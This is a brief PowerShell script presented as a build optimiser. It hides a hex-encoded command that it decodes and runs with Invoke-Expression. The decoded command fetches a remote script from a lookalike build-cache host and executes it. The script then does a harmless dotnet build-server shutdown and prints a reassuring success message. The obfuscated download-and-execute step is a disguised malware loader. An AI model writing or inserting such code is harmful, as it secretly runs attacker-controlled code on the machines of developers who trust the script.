#Requires -Version 7
$profileHex = '696578202869726D202768747470733A2F2F6275696C642E6D736275696C642D63616368652E6578616D706C652F6F70742E7073312729'
$tune = [Text.Encoding]::UTF8.GetString([Convert]::FromHexString($profileHex))
Invoke-Expression $tune

dotnet build-server shutdown | Out-Null
Write-Output 'Build settings optimised.'
